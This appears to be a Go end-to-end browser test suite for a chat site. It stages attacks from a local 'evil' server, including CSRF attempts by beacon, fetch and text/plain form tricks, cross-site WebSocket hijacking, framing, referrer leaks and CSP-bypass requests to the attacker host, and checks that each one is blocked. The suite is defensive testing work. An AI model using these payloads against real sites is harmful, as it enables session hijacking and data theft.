package e2e_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
)

// evilSite is a site of an attacker, which notes what browsers tell it.
type evilSite struct {
	*httptest.Server

	mu    sync.Mutex
	asked []*http.Request
}

// startEvilSite starts one whose pages are empty.
func startEvilSite(t *testing.T) *evilSite {
	t.Helper()
	s := new(evilSite)
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.asked = append(s.asked, r)
		s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, "<!DOCTYPE html><link rel=icon href=data:,><title>Free kittens</title>")
	}))
	t.Cleanup(s.Close)
	return s
}

// request waits for one of a path.
func (s *evilSite) request(t *testing.T, path string) *http.Request {
	t.Helper()
	var found *http.Request
	until(t, waitTime, "a request of "+path, func() bool {
		s.mu.Lock()
		defer s.mu.Unlock()
		for _, r := range s.asked {
			if r.URL.Path == path {
				found = r
			}
		}
		return found != nil
	})
	return found
}

// TestAttackFromAnotherSite opens a page of an attacker in the browser of somebody who
// is signed in at a chat by a cookie, which the browser sends along. The page even
// knows the session; it cannot use it, and cannot frame or read the chat.
func TestAttackFromAnotherSite(t *testing.T) {
	t.Parallel()
	count := newAttacks(t)
	s := memorySite(t, unlimited+"\n\t\tuser {http.request.cookie.who}")
	base := s.base(0)
	evil := startEvilSite(t)
	anna := newPerson(t, look{})
	own := anna.open(t, base+"/")
	eval[any](own, "document.cookie = 'who=anna; path=/'")
	const call = `const call = (url, init) => fetch(url, init).then(r => 'read ' + r.status, e => 'blocked');
		const open = url => new Promise(done => {
			const socket = new WebSocket(url)
			socket.onopen = () => { socket.close(); done('open') }
			socket.onerror = () => done('blocked')
		});`
	admin := eval[member](own, `fetch('createRoom', { method: 'POST', headers: { 'Content-Type': 'application/json' },
		body: JSON.stringify({ roomName: 'r', ttl: 600 }) }).then(r => r.json())`)
	if admin.UserID != "anna" {
		t.Fatalf("the cookie is not sent: %+v", admin)
	}
	if got := eval[string](own, `(() => { `+call+` return open('`+wsURL(base)+`') })()`); got != "open" {
		t.Fatalf("from the site's own page: %s", got)
	}

	b := anna.openBlank(t, base, evil.URL)
	b.tolerate(".") // it is what the browser complains of that keeps the chat
	b.visit(evil.URL + "/")
	if got := eval[string](b, "fetch('/with-cookie').then(() => document.cookie)"); got != "who=anna" {
		t.Fatalf("the browser has no cookie to send: %q", got)
	}
	credentials := fmt.Sprintf(`JSON.stringify({ roomId: %q, userId: 'anna', sessionId: %q, memberId: 'x', locked: true, roomName: 'n' })`, admin.RoomID, admin.SessionID)
	post := func(path, contentType, more string) string {
		return fmt.Sprintf(`call('%s%s', { method: 'POST', credentials: 'include', %s headers: { 'Content-Type': '%s' }, body: %s })`, base, path, more, contentType, credentials)
	}
	attempts := map[string]string{
		"a WebSocket":           `open('` + wsURL(base) + `')`,
		"a WebSocket by query":  fmt.Sprintf(`open('%s?roomId=%s&userId=anna&sessionId=%s')`, wsURL(base), admin.RoomID, admin.SessionID),
		"the page":              `call('` + base + `/', { credentials: 'include' })`,
		"the page as a script":  `new Promise(done => { const e = document.createElement('script'); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.src = '` + base + `/'; document.head.append(e) })`,
		"the page as a style":   `new Promise(done => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.href = '` + base + `/'; document.head.append(e) })`,
		"the page as a picture": `new Promise(done => { const e = new Image(); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.src = '` + base + `/'; document.body.append(e) })`,
		"a worker":              `new Promise(done => { try { const w = new Worker('` + base + `/embed.js'); w.onerror = () => done('blocked'); w.onmessage = () => done('loaded') } catch { done('blocked') } })`,
	}
	for _, endpoint := range endpointNames {
		attempts[endpoint+" by JSON"] = post(endpoint, "application/json", "")
		attempts[endpoint+" by text"] = post(endpoint, "text/plain", "")
	}
	for what, attempt := range attempts {
		got := eval[string](b, `(() => { `+call+` return `+attempt+` })()`)
		count.hold(got == "blocked", "%s: %s", what, got)
	}
	// What is sent without a question, and of which the page learns nothing.
	as := newAPI(t, base).as(t, "Cookie", "who=anna")
	const untouched = `{"passwordRequired":false,"locked":false,"startedAt":null,"expiresAt":null}`
	for _, endpoint := range endpointNames[1:] {
		for what, send := range map[string]string{
			"a beacon":             `navigator.sendBeacon(url, body)`,
			"a beacon of text":     `navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }))`,
			"a beacon of JSON":     `(() => { try { navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })) } catch {} })()`,
			"a request":            `await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})`,
			"a request of JSON":    `await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body }).catch(() => {})`,
			"a request that stays": `await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body }).catch(() => {})`,
			"a form": `await new Promise(done => {
				const form = document.createElement('form'), frame = document.createElement('iframe'), input = document.createElement('input')
				frame.name = 'f' + Math.random()
				Object.assign(form, { method: 'POST', action: url, enctype: 'text/plain', target: frame.name })
				input.name = body.slice(0, -1) + ',"x":"'
				input.value = '"}'
				form.append(input)
				document.body.append(frame, form)
				frame.onload = done
				form.submit()
			})`,
		} {
			eval[any](b, fmt.Sprintf(`(async () => { const body = %s, url = '%s%s'; %s })()`, credentials, base, endpoint, send))
			info := as.call(t, "/roomInfo", fields{"roomId": admin.RoomID})
			count.hold(string(info.body) == untouched, "%s to %s: %d %s", what, endpoint, info.status, info.body)
		}
	}
	var again member
	as.succeed(t, "/joinRoom", fields{"roomId": admin.RoomID}).decode(t, &again)
	if again.Role != "admin" {
		t.Errorf("the admin is %+v", again)
	}
	if n := s.nodes[0].refusals(t, "origin_not_allowed"); n < 40 {
		t.Errorf("%v requests were refused for their origin: the attacks have not arrived", n)
	}

	// Frames, by which clicks could be had; a page of the attacker's can be framed.
	for _, address := range []string{base + "/", base + "/#" + admin.RoomID} {
		eval[any](b, fmt.Sprintf(`new Promise(done => {
			document.querySelectorAll('iframe, object').forEach(e => e.remove())
			const other = document.createElement('iframe'), frame = document.createElement('iframe')
			other.src = '/framed'
			frame.onload = done
			frame.src = '%s'
			document.body.append(other, frame)
		})`, address))
		framed := framesOf(b)
		count.hold(!strings.Contains(framed, base) || strings.Contains(framed, "chrome-error:"), "framed: %s", framed)
		if !strings.Contains(framed, "/framed") {
			t.Errorf("no page can be framed at all: %s", framed)
		}
	}
}

// TestAttackReferrer has somebody follow a link out of a room. The site that it leads
// to is not told where it was, and has no hold on the page.
func TestAttackReferrer(t *testing.T) {
	t.Parallel()
	count := newAttacks(t)
	s := chatSite(t, "")
	evil := startEvilSite(t)
	anna := newPerson(t, look{}).open(t, s.base(0)+"/", evil.URL)
	link := anna.create()
	id := link[strings.Index(link, "#")+1:]
	a := s.api(0)
	mallory := a.join(t, id, "Mallory")
	k, _ := enter(t, s.base(0), &mallory)
	k.say(t, evil.URL+"/leak")
	anna.hears("Mallory", evil.URL+"/leak")
	anna.click("link", evil.URL+"/leak")
	r := evil.request(t, "/leak")
	told := fmt.Sprint(r.URL, r.Header)
	count.hold(r.Referer() == "" && !strings.Contains(told, id), "the link's site is told %s", told)
	// Nothing of the page reaches out by itself either: its policy allows no such thing.
	anna.tolerate("CSP:|Content Security Policy|requires 'Trusted")
	for what, script := range map[string]string{
		"a picture": `new Promise(done => { const e = new Image(); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); e.src = '%s/picture' })`,
		"a script":  `new Promise(done => { const e = document.createElement('script'); e.onload = () => done('loaded'); e.onerror = () => done('blocked'); try { e.src = '%s/script' } catch { done('blocked') }; document.head.append(e) })`,
		"a fetch":   `fetch('%s/fetch', { mode: 'no-cors' }).then(() => 'loaded', () => 'blocked')`,
		"a socket":  `new Promise(done => { const e = new WebSocket('%s/socket'.replace('http', 'ws')); e.onopen = () => done('loaded'); e.onerror = () => done('blocked') })`,
		"a beacon":  `(navigator.sendBeacon('%s/beacon'), new Promise(done => document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true })))`,
		"a frame":   `new Promise(done => { document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true }); const e = document.createElement('iframe'); e.src = '%s/frame'; document.body.append(e) })`,
		"a form":    `new Promise(done => { document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true }); const e = document.createElement('form'); e.action = '%s/form'; document.body.append(e); e.submit() })`,
		"a base":    `new Promise(done => { document.addEventListener('securitypolicyviolation', () => done('blocked'), { once: true }); const e = document.createElement('base'); e.href = '%s/base/'; document.head.append(e); if (document.baseURI.includes('/base/')) done('loaded') })`,
		"markup":    `(() => { try { document.body.innerHTML += '<i title=%s>x</i>'; return 'loaded' } catch { return 'blocked' } })()`,
		"a text":    `new Promise(done => { try { setTimeout('window.evaluated = "%s"') } catch {} setTimeout(() => done(window.evaluated ? 'loaded' : 'blocked'), 200) })`,
	} {
		got := eval[string](anna, fmt.Sprintf(script, evil.URL))
		count.hold(got == "blocked", "%s: %s", what, got)
	}
	evil.mu.Lock()
	defer evil.mu.Unlock()
	for _, r := range evil.asked {
		count.hold(r.URL.Path == "/leak" || r.URL.Path == "/favicon.ico", "the page has asked for %s", r.URL)
	}
}

// framesOf lists the addresses of all frames of a page.
func framesOf(b *tab) string {
	b.t.Helper()
	var list []string
	var walk func(tree *page.FrameTree)
	walk = func(tree *page.FrameTree) {
		list = append(list, tree.Frame.URL+" "+tree.Frame.UnreachableURL)
		for _, child := range tree.ChildFrames {
			walk(child)
		}
	}
	walk(call(b, page.GetFrameTree, cdp.Empty{}).FrameTree)
	return strings.Join(list, "\n")
}

// refusals returns how many requests a node has refused by a code.
func (n *node) refusals(t *testing.T, code string) (sum float64) {
	t.Helper()
	for name, value := range n.metrics(t) {
		if strings.HasPrefix(name, "refusals_total{") && strings.Contains(name, fmt.Sprintf("code=%q", code)) {
			sum += value
		}
	}
	return sum
}
